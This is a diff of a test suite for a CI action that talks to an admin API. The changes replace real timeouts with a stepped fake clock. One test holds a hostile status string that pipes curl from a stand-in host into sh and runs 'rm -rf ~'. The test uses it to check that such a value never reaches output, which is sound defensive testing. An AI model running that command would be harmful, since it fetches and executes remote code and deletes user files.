@@ -134,7 +134,7 @@ describe('hostile admin API answers', () => {
         if (req.method === 'POST') posts += 1
         sendJson(res, 429, { error: 'slow down' }, { 'retry-after': '99999999999999999999999' })
       },
-      { prompt: 'Go', timeout: '5s' }
+      { prompt: 'Go', timeout: '1h' }
     )
     expect(posts).toBe(1)
     expect(result.outputs['outcome']).toBe('rate-limited')
@@ -182,9 +182,16 @@ describe('hostile admin API answers', () => {
 
   it('an unlisted status with shell syntax is no status output: a script that pastes it runs nothing', async () => {
     const hostile = 'Queued $(curl evil.example|sh) `id` "; rm -rf ~'
+    // The first read of the job moves the step's clock past its timeout.
+    const clock = steppedClock()
     const { result } = await runAgainst(
-      (req, res) => sendJson(res, req.method === 'POST' ? 201 : 200, { id: 'job-1', status: hostile }),
-      { prompt: 'Go', timeout: '1s', 'fail-on': '' }
+      clock.jumpingAt(
+        (req, res) => sendJson(res, req.method === 'POST' ? 201 : 200, { id: 'job-1', status: hostile }),
+        (req) => req.method === 'GET'
+      ),
+      { prompt: 'Go', ...clock.inputs, 'fail-on': '' },
+      false,
+      clock.with()
     )
     expect(result.outputs['outcome'], result.stdout).toBe('timeout')
     expect(result.outputs['status']).toBe('')
@@ -193,12 +200,18 @@ describe('hostile admin API answers', () => {
   })
 
   it('an unlisted status that is also a secret never shows', async () => {
+    const clock = steppedClock()
     const { result } = await runAgainst(
-      (req, res) => {
-        if (req.method === 'POST') return sendJson(res, 201, { id: 'job-1', status: KEY })
-        return sendJson(res, 200, { id: 'job-1', status: KEY.toUpperCase() })
-      },
-      { prompt: 'Go', timeout: '1s', 'fail-on': '' }
+      clock.jumpingAt(
+        (req, res) => {
+          if (req.method === 'POST') return sendJson(res, 201, { id: 'job-1', status: KEY })
+          return sendJson(res, 200, { id: 'job-1', status: KEY.toUpperCase() })
+        },
+        (req) => req.method === 'GET'
+      ),
+      { prompt: 'Go', ...clock.inputs, 'fail-on': '' },
+      false,
+      clock.with()
     )
     const text = [result.stdout, result.summary, JSON.stringify(result.outputs)].join('\n').toLowerCase()
     expect(text.split('\n').filter((line) => line.includes(KEY) && !line.startsWith('::add-mask::'))).toEqual([])
@@ -283,18 +296,19 @@ describe('hostile admin API answers', () => {
   it('preview: a build status that is 404 for the whole wait is not reported as "still queued"', async () => {
     // The first read of the build's status moves the step's clock past its timeout, and not past the 30 s a status
     // not found is waited out.
-    const clock = steppedClock(20_000)
+    const clock = steppedClock('20s')
+    let reads = 0
     const { result } = await runAgainst(
       completedWithPreview(
         (res) => sendJson(res, 202, { statusId: 'status-1', previewUrl: 'https://acme.mintlify.app/' }),
         (res) => {
-          clock.jump()
+          if ((reads += 1) === 1) clock.jump()
           sendJson(res, 404, { error: 'Status not found' })
         }
       ),
-      { prompt: 'Go', preview: 'true', timeout: '20s' },
+      { prompt: 'Go', preview: 'true', ...clock.inputs },
       false,
-      clock.run
+      clock.with()
     )
     expect(result.outputs['preview-status']).toBe('building')
     expect(result.stdout).not.toContain('it was still queued when the timeout ran out')
